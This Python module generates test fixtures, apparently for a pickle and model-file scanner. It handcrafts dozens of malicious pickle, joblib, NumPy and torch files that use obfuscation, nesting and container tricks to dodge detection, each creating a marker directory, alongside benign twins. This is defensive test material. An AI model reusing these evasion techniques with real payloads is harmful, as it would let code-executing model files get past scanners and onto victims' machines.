"""Live evasions written opcode by opcode, and benign twins in the same encodings."""

import base64
import codecs
import io
import struct
import zipfile
import zlib

MARK = "mantlet-was-here"


def text(value):
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def short(value):
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def raw_bytes(value):
    return b"B" + struct.pack("<I", len(value)) + value


def name(module, attribute):
    return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"


def stack_name(module, attribute):
    return short(module) + short(attribute) + b"\x93"


def args(*items):
    return b"(" + b"".join(items) + b"t"


def call(function, *items):
    return function + args(*items) + b"R"


def pickle(body, protocol=4):
    return b"\x80" + bytes([protocol]) + body + b"."


MKDIR = name("os", "mkdir")
NAME = text(MARK)
CODE = text(f"import os; os.mkdir('{MARK}')")


def module(which):
    return call(name("importlib", "import_module"), text(which))


def streams():
    """(name, bytes, loader) of evasions inside one pickle."""
    direct = pickle(call(MKDIR, NAME))
    yield "reduce", direct
    yield "posix", pickle(call(name("posix", "mkdir"), NAME))
    yield "stack-global", pickle(call(stack_name("os", "mkdir"), NAME))
    yield "protocol0-inst", b"(S'" + MARK.encode() + b"'\nios\nmkdir\n."
    yield "obj", pickle(b"(" + MKDIR + NAME + b"o")
    yield "python2-name", pickle(call(name("__builtin__", "eval"), text(f"__import__('os').mkdir('{MARK}')")), 2)
    yield "exec", pickle(call(name("builtins", "exec"), CODE))
    yield "subprocess-list", pickle(call(name("subprocess", "call"), b"]" + text("mkdir") + b"a" + NAME + b"a"))
    yield "newobj-ex", pickle(name("logging", "FileHandler") + b")" + b"}\x92" + b"0" + call(MKDIR, NAME))
    yield "memo-swap", pickle(short("os") + b"\x94" + short("mkdir") + b"\x94" + b"00" + b"h\x00h\x01\x93" + args(NAME) + b"R")
    yield "memo-overwrite", pickle(text("collections") + b"q\x00" + b"0" + text("os") + b"q\x000" + b"h\x00" + text("mkdir")
                                   + b"\x93" + args(NAME) + b"R")
    yield "dup", pickle(MKDIR + b"2" + args(NAME) + b"R")
    yield "pop-noise", pickle(b"(" + text("x") * 50 + b"1" + b"N0" * 50 + call(MKDIR, NAME))
    yield "unicode-escape", b"\x80\x02" + b"V\\u006fs\n" + b"V\\u006dkdir\n" + b"\x93" + args(NAME) + b"R."
    yield "string-escape", b"\x80\x02" + b"S'\\x6fs'\n" + b"S'mk\\x64ir'\n" + b"\x93" + args(NAME) + b"R."
    yield "long-name", pickle(b"\x8d" + struct.pack("<Q", 2) + b"os" + short("mkdir") + b"\x93" + args(NAME) + b"R")
    yield "broken-tail", direct[:-1] + b"\xff\xff"
    yield "broken-underflow", direct[:-1] + b"00R."
    yield "truncated", direct[:-1]
    yield "frame-lies", b"\x80\x04\x95" + struct.pack("<Q", 4) + direct[2:]
    yield "many-protos", b"\x80\x02" * 20 + direct
    yield "getattr", pickle(call(call(name("builtins", "getattr"), module("os"), text("mkdir")), NAME))
    yield "getattr-import", pickle(call(call(name("builtins", "getattr"), call(name("builtins", "__import__"), text("os")),
                                             text("mkdir")), NAME))
    yield "attrgetter", pickle(call(call(call(name("operator", "attrgetter"), text("mkdir")), module("os")), NAME))
    yield "attrgetter-path", pickle(call(call(call(name("operator", "attrgetter"), text("os.mkdir")), module("shutil")), NAME))
    yield "methodcaller", pickle(call(call(name("operator", "methodcaller"), text("mkdir"), NAME), module("os")))
    yield "itemgetter", pickle(call(call(call(name("operator", "itemgetter"), text("exec")),
                                         call(name("builtins", "vars"), module("builtins"))), CODE))
    yield "vars-getitem", pickle(call(call(name("operator", "getitem"), call(name("builtins", "vars"), module("os")),
                                           text("mkdir")), NAME))
    yield "sys-modules", pickle(call(call(name("builtins", "getattr"), call(name("operator", "getitem"),
                                          name("sys", "modules"), text("os")), text("mkdir")), NAME))
    yield "dict-get", pickle(call(call(name("builtins", "dict.get"), call(name("builtins", "vars"), module("os")),
                                       text("mkdir")), NAME))
    yield "partial", pickle(call(call(name("functools", "partial"), MKDIR, NAME)))
    yield "partial-setstate", pickle(call(name("functools", "partial"), name("builtins", "int")) +
                                     args(MKDIR, args(NAME), b"}", b"}") + b"b" + b")R")
    yield "reduce-getattr", pickle(call(call(name("functools", "reduce"), name("builtins", "getattr"),
                                             b"]" + text("mkdir") + b"a", module("os")), NAME))
    yield "reduce-map", pickle(call(name("builtins", "list"), call(name("builtins", "map"), MKDIR, b"]" + NAME + b"a")))
    yield "deque-map", pickle(call(name("collections", "deque"), call(name("builtins", "map"), MKDIR, b"]" + NAME + b"a")))
    yield "bytes-filter", pickle(call(name("builtins", "bytes"), call(name("builtins", "filter"), MKDIR, b"]" + NAME + b"a")))
    yield "starmap", pickle(call(name("builtins", "list"), call(name("itertools", "starmap"), MKDIR,
                                                               b"]" + args(NAME) + b"a")))
    yield "operator-call", pickle(call(name("operator", "call"), MKDIR, NAME))
    yield "resolve-name", pickle(call(call(name("pkgutil", "resolve_name"), text("os:mkdir")), NAME))
    yield "pydoc-locate", pickle(call(call(name("pydoc", "locate"), text("os.mkdir")), NAME))
    yield "dotted-alias", pickle(call(stack_name("joblib.numpy_pickle", "os.mkdir"), NAME))
    yield "dotted-alias-sklearn", pickle(call(stack_name("sklearn.utils._testing", "os.mkdir"), NAME))
    yield "dotted-deep", pickle(call(stack_name("logging", "os.path.os.mkdir"), NAME))
    yield "dotted-modules", pickle(call(call(stack_name("collections", "_sys.modules.get"), text("os")) +
                                        b"0" + stack_name("os", "mkdir"), NAME))
    yield "module-alias", pickle(call(call(name("builtins", "getattr"), name("shutil", "os"), text("mkdir")), NAME))
    yield "subclass-internals", pickle(call(stack_name("collections", "OrderedDict.__init__.__class__.__base__.__subclasses__"))
                                       + b"0" + call(MKDIR, NAME))
    yield "rot13", pickle(call(call(name("codecs", "decode"), text(codecs.encode("os", "rot13")), text("rot13")) +
                               short("mkdir") + b"\x93", NAME))
    yield "concat", pickle(call(call(name("operator", "concat"), text("o"), text("s")) + short("mkdir") + b"\x93", NAME))
    yield "join", pickle(call(call(name("builtins", "str.join"), text(""), b"]" + text("o") + b"a" + text("s") + b"a") +
                              short("mkdir") + b"\x93", NAME))
    yield "str-bytes", pickle(call(call(name("builtins", "str"), raw_bytes(b"os"), text("ascii")) + short("mkdir") + b"\x93", NAME))
    yield "reversed", pickle(call(call(name("builtins", "str.replace"), text("xos"), text("x"), text("")) + short("mkdir")
                                  + b"\x93", NAME))
    yield "extension", pickle(call(name("copyreg", "add_extension"), text("os"), text("mkdir"), b"K\x21") + b"0" +
                              b"\x82\x21" + args(NAME) + b"R")
    yield "reconstructor", pickle(call(name("copyreg", "__newobj__"), name("logging", "FileHandler")) + b"0" + call(MKDIR, NAME))
    yield "setstate-hook", pickle(name("types", "SimpleNamespace") + b")R" + b"}" + text("__setstate__") + MKDIR + b"s" + b"b"
                                  + NAME + b"b")
    yield "append-hook", pickle(name("types", "SimpleNamespace") + b")R" + b"}" + text("append") + MKDIR + b"s" + b"b" + NAME + b"a")
    yield "nested", pickle(call(name("pickle", "loads"), raw_bytes(direct)))
    yield "nested-base64", pickle(call(name("pickle", "loads"), call(name("base64", "b64decode"),
                                                                    raw_bytes(base64.b64encode(direct)))))
    yield "nested-zlib", pickle(call(name("_pickle", "loads"), call(name("zlib", "decompress"), raw_bytes(zlib.compress(direct)))))
    yield "nested-bytesio", pickle(call(name("pickle", "load"), call(name("io", "BytesIO"), raw_bytes(direct))))
    yield "unpickler", pickle(call(call(name("builtins", "getattr"), call(name("pickle", "Unpickler"), call(
        name("io", "BytesIO"), raw_bytes(direct))), text("load"))))
    yield "runstring", pickle(call(name("numpy.testing._private.utils", "runstring"), CODE, b"}"))
    yield "getlincoef", pickle(call(name("numpy.f2py.crackfortran", "getlincoef"),
                                    text(f"__import__('os').mkdir('{MARK}')"), b"}"))
    yield "scipy-template", pickle(name("scipy.stats._continuous_distns", "norm_gen") + b")\x81}" +
                                   text("_parse_arg_template") + CODE + b"s" + text("_ctor_param") + b"}s" + b"b")
    yield "timeit", pickle(call(name("timeit", "timeit"), CODE, text("pass"), name("time", "perf_counter"), b"K\x01"))
    yield "cprofile", pickle(call(name("cProfile", "run"), CODE))
    yield "runpy", pickle(call(name("runpy", "_run_code"), call(name("builtins", "compile"), CODE, text("x"), text("exec")), b"}"))
    yield "uuid-command", pickle(call(name("uuid", "_get_command_stdout"), text("mkdir"), NAME))
    yield "compile-command", pickle(call(name("_osx_support", "_read_output"), text(f"mkdir {MARK}")))
    yield "logging-file", pickle(call(name("logging", "FileHandler"), NAME))
    yield "memmap", pickle(call(name("numpy", "memmap"), NAME, text("uint8"), text("w+"), b"K\x00", b"K\x04"))
    yield "open-w", pickle(call(name("io", "open"), NAME, text("w")))
    yield "fileio", pickle(call(name("_io", "FileIO"), NAME, text("w")))
    yield "path-touch", pickle(call(stack_name("pathlib", "Path.touch"), call(name("pathlib", "PosixPath"), NAME)))
    yield "sqlite", pickle(call(stack_name("sqlite3", "connect"), NAME))
    yield "dbm", pickle(call(name("dbm.dumb", "open"), NAME))
    yield "zipfile", pickle(call(name("zipfile", "ZipFile"), NAME, text("w")))
    yield "savetxt", pickle(call(name("numpy", "savetxt"), NAME, b"]K\x01a"))
    yield "savetxt-deep", pickle(call(name("numpy.lib._npyio_impl", "savetxt"), NAME, b"]K\x01a"))
    yield "joblib-dump", pickle(call(name("joblib", "dump"), b"N", NAME))
    yield "distutils", pickle(call(name("distutils.file_util", "write_file"), NAME, b"]"))
    state = b"".join(text(f"k{i}") + b"K\x00s" for i in range(60))
    yield "scipy-template-late", pickle(name("scipy.stats._continuous_distns", "norm_gen") + b")\x81}" + state +
                                        text("_parse_arg_template") + CODE + b"s" + text("_ctor_param") + b"}s" + b"b")
    yield "statsmodels-formula", pickle(
        name("statsmodels.base.data", "PandasData") + b")\x81}" + state + text("restore_model_spec") + b"\x88s" + text("formula")
        + text(f"a ~ I(__import__('os').mkdir('{MARK}') or a)") + b"s" + text("frame") + call(
            name("pandas", "DataFrame"), b"}" + text("a") + b"]K\x01aK\x02as") + b"sb")
    yield "iter-sentinel", pickle(call(name("builtins", "list"), call(name("builtins", "iter"), call(
        name("functools", "partial"), MKDIR, NAME), b"N")))
    yield "to-csv", pickle(call(call(name("operator", "methodcaller"), text("to_csv"), NAME),
                                call(name("pandas", "DataFrame"))))
    yield "tofile", pickle(call(stack_name("numpy", "ndarray.tofile"), call(name("numpy", "arange"), b"K\x03"), NAME))
    yield "marshal", pickle(call(call(name("types", "FunctionType"), call(name("builtins", "compile"), CODE, text("x"),
                                                                         text("exec")), b"}")))
    yield "default-factory", pickle(call(name("collections", "defaultdict"), call(name("functools", "partial"), MKDIR, NAME))
                                    + b"0" + call(stack_name("builtins", "dict.__getitem__"), call(
                                        name("collections", "defaultdict"), call(name("functools", "partial"), MKDIR, NAME)),
                                        text("x")))
    yield "atexit", pickle(call(name("atexit", "register"), MKDIR, NAME))
    yield "thread", pickle(call(name("_thread", "start_new_thread"), MKDIR, args(NAME)) + b"0" +
                           call(name("time", "sleep"), b"K\x01"))


def joblib_confusion():
    """Files that joblib and pickle read differently; made by joblib itself."""
    import joblib
    import numpy as np

    direct = pickle(call(MKDIR, NAME), 2)

    def dumped(value):
        buffer = io.BytesIO()
        joblib.dump(value, buffer)
        return buffer.getvalue()

    hidden = np.frombuffer(direct.ljust(256, b"N"), dtype="u1").copy()
    plain = dumped(hidden)
    # `joblib.load` reads the padding and the array as numbers; `pickle.load` takes them for opcodes.
    at = plain.index(direct)
    padding = next(n for n in range(64) if plain[at - n - 1] == n and plain[at - n : at] == b"\xff" * n)
    body = direct.ljust(256, b"N")
    opcodes = plain[: at - padding - 1] + b"N" + b"N0" * 39 + body + plain[at + 256 :]
    yield "joblib-array-as-opcodes", opcodes, "pickle"

    class Payload:
        def __reduce__(self):
            import os
            return os.mkdir, (MARK,)

    yield "joblib-object-array", dumped(np.array([Payload()], dtype=object)), "joblib"
    yield "joblib-after-array", dumped([np.arange(50.0), Payload()]), "joblib"
    buffer = io.BytesIO()
    joblib.dump([np.arange(50.0), Payload()], buffer, compress=3)
    yield "joblib-zlib", buffer.getvalue(), "joblib"


def torch_legacy(body):
    """Five pickles and tensor data, as `torch.save` wrote before zip."""
    magic = b"\x8a\x0a" + bytes.fromhex("6cfc9c46f9206aa85019")
    storage = args(text("storage"), name("torch", "FloatStorage"), text("0"), text("cpu"), b"K\x04", b"N") + b"Q"
    tensor = call(name("torch._utils", "_rebuild_tensor_v2"), storage, b"K\x00", b"K\x04\x85", b"K\x01\x85", b"\x89",
                  call(name("collections", "OrderedDict")))
    state = call(name("collections", "OrderedDict")) + text("weight") + tensor + b"s" + body
    parts = [magic, b"M\xe9\x03", b"}" + text("little_endian") + b"\x88s", state, b"]" + text("0") + b"a"]
    return b"".join(pickle(part, 2) for part in parts) + struct.pack("<Q4f", 4, 1.0, 2.0, 3.0, 4.0)


def containers():
    """(name, bytes, loader) of evasions around a pickle."""
    import numpy as np

    direct = pickle(call(MKDIR, NAME))

    class Payload:
        def __reduce__(self):
            import os
            return os.mkdir, (MARK,)

    buffer = io.BytesIO()
    np.save(buffer, np.array([Payload()], dtype=object), allow_pickle=True)
    yield "objects.npy", buffer.getvalue(), "numpy"
    yield "renamed.bin", direct, "pickle"
    yield "renamed.safetensors", direct, "pickle"
    yield "renamed.txt", b"cos\nmkdir\n(S'" + MARK.encode() + b"'\ntR.", "pickle"
    yield "stacked.pkl", b"\x80\x02N." + direct, "pickle-twice"
    yield "stacked-old.pkl", b"N." + b"cos\nmkdir\n(S'" + MARK.encode() + b"'\ntR.", "pickle-twice"
    buffer = io.BytesIO()
    np.savez(buffer, a=np.arange(3), b=np.array([Payload()], dtype=object))
    yield "objects.npz", buffer.getvalue(), "numpy"
    for label, compression in (("stored", zipfile.ZIP_STORED), ("deflated", zipfile.ZIP_DEFLATED)):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", compression) as archive:
            archive.writestr("archive/data.pkl", direct)
            archive.writestr("archive/version", "3\n")
        yield f"torch-{label}.pt", buffer.getvalue(), "zip"
        yield f"torch-{label}-prefixed.pt", b"\x00" * 100 + buffer.getvalue(), "zip"
        yield f"torch-{label}-tail.pt", buffer.getvalue() + b"\x00" * 100, "zip"
    broken = bytearray(buffer.getvalue())
    yield "torch-name-differs.pt", bytes(broken).replace(b"archive/data.pkl", b"archive/xxxx.pkl", 1), None
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", direct)
    crc = bytearray(buffer.getvalue())
    crc[14] ^= 0xFF
    at = bytes(crc).index(b"PK\x01\x02")
    crc[at + 16] ^= 0xFF
    yield "torch-bad-crc.pt", bytes(crc), None
    flags = bytearray(buffer.getvalue())
    flags[6] |= 1
    yield "torch-flag.pt", bytes(flags), None
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr("model.pt", buffer.getvalue())
    yield "zip-in-zip.zip", inner.getvalue(), None
    yield "late-hook.pkl", pickle(name("sklearn.preprocessing._function_transformer", "FunctionTransformer") + b")\x81}"
                                  + text("func") + MKDIR + b"s" + text("validate") + b"\x89s" + text("kw_args") + b"Ns"
                                  + text("inverse_func") + b"Ns" + text("accept_sparse") + b"\x89s"
                                  + text("check_inverse") + b"\x89s" + text("feature_names_out") + b"Ns"
                                  + text("inv_kw_args") + b"Ns" + b"b"), "transform"
    yield "torch-legacy.pt", torch_legacy(text("x") + call(MKDIR, NAME) + b"s"), None
    import dill
    yield "dill-code.dill", dill.dumps(lambda: __import__("os").mkdir("x")), None
    import cloudpickle
    yield "cloudpickle-code.pkl", cloudpickle.dumps(lambda: __import__("os").mkdir("x")), None


def evasions():
    for label, data in streams():
        yield f"{label}.pkl", data, "pickle"
    for label, data, loader in joblib_confusion():
        yield f"{label}.joblib", data, loader
    yield from containers()


def twins():
    """Ordinary values in the encodings the evasions use."""
    ordered = name("collections", "OrderedDict")
    yield "reduce.pkl", pickle(call(ordered))
    yield "inst.pkl", b"(icollections\nOrderedDict\n."
    yield "obj.pkl", pickle(b"(" + ordered + b"o")
    yield "stack-global.pkl", pickle(call(stack_name("collections", "OrderedDict")))
    yield "memo-swap.pkl", pickle(short("collections") + b"\x94" + short("OrderedDict") + b"\x94" + b"00" + b"h\x00h\x01\x93)R")
    yield "memo-overwrite.pkl", pickle(text("os") + b"q\x000" + text("collections") + b"q\x000" + b"h\x00" +
                                       text("OrderedDict") + b"\x93)R")
    yield "dup.pkl", pickle(ordered + b"2)R" + b"\x86")
    yield "unicode-escape.pkl", b"\x80\x02V\\u0063ollections\nVOrderedDict\n\x93)R."
    yield "string-escape.pkl", b"\x80\x02S'\\x63ollections'\nS'OrderedDict'\n\x93)R."
    yield "getattr.pkl", pickle(call(name("builtins", "getattr"), name("collections", "OrderedDict"), text("fromkeys")))
    yield "partial.pkl", pickle(call(name("functools", "partial"), name("builtins", "int"), text("3")))
    yield "default-factory.pkl", pickle(call(name("collections", "defaultdict"), name("builtins", "list")))
    yield "hook-words.pkl", pickle(name("types", "SimpleNamespace") + b")R}" + text("append") + text("word") + b"sb")
    yield "data-only-names.pkl", pickle(b"]" + text("os") + b"a" + text("mkdir") + b"a" + raw_bytes(pickle(call(MKDIR, NAME))) + b"a")
    yield "python2-name.pkl", pickle(call(name("__builtin__", "set"), b"]"), 2)
    yield "reconstructor.pkl", pickle(call(name("copyreg", "_reconstructor"), name("sklearn.svm._classes", "SVC"),
                                           name("builtins", "object"), b"N"))
    yield "latin1-bytes.pkl", pickle(call(name("_codecs", "encode"), text("abc\u00e9"), text("latin1")), 2)
    yield "ufunc.pkl", pickle(call(name("numpy._core", "_ufunc_reconstruct"), text("numpy"), text("add")))
    yield "torch-legacy.pt", torch_legacy(b"")
    for label, compression in (("stored", zipfile.ZIP_STORED), ("deflated", zipfile.ZIP_DEFLATED)):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", compression) as archive:
            archive.writestr("archive/data.pkl", pickle(call(ordered)))
            archive.writestr("archive/data/0", pickle(call(MKDIR, NAME)))
            archive.writestr("archive/version", "3\n")
        yield f"torch-{label}.pt", buffer.getvalue()
